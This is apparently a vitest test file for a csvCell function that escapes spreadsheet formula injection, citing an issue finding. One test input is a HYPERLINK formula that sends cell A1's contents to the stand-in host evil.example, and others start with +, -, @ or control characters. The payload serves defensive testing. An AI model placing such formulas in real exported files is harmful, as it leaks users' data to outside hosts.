import { describe, expect, it } from 'vitest';
import { csvCell } from './cell.ts';

describe('a CSV cell', () => {
  it('neutralises text a spreadsheet would run as a formula (issue 18, finding 7)', () => {
    expect(csvCell('=HYPERLINK("http://evil.example?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""click"")"`);
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${start}cmd`).replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves numbers and ordinary text alone', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });
});
